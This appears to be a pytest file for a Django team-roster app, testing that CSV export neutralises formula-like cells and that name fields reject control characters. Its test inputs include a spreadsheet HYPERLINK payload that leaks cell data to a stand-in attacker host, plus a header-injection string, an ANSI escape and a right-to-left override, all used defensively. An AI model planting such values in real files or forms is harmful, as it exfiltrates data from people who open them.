"""Names refuse control characters; CSV cells never run as spreadsheet formulas."""

import csv
import io

import pytest
from django.urls import reverse

from teams.models import Associate
from teams.text import csv_safe, write_csv
from tests.conftest import client_for

from .test_roster import new_person, snapshot

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK"),
        ("+31 20 555", "'+31"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM"),
        ("\tTabbed", "'\t"),
        ("\rReturn", "'\r"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("4.5", "4.5"),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_neutralised(value, written):
    assert str(csv_safe(value)).startswith(written)


def test_numbers_and_empty_cells_are_written_as_they_are():
    out = io.StringIO()
    write_csv(out, [["name", -1.5, None, ""], ["=cmd", 0, "x", "-"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "-1.5", "", ""], ["'=cmd", "0", "x", "'-"]]


@pytest.mark.parametrize("field", ["first_name", "last_name", "title"])
@pytest.mark.parametrize("bad", ["Ada\x00", "Ada\x1b[31m", "Ada\nBcc: x", "Ada\u202eevil"])
def test_a_name_with_a_control_character_is_refused_and_nothing_is_written(
    field, bad, cast, team, lead
):
    before = snapshot()
    data = new_person(team) | {field: bad}
    response = client_for(lead).post(reverse("teams:associate-create", args=[team.pk]), data)
    assert response.status_code == 200
    assert response.context["form"].errors[field]
    assert snapshot() == before
    assert not Associate.objects.filter(user__email=data["email"]).exists()
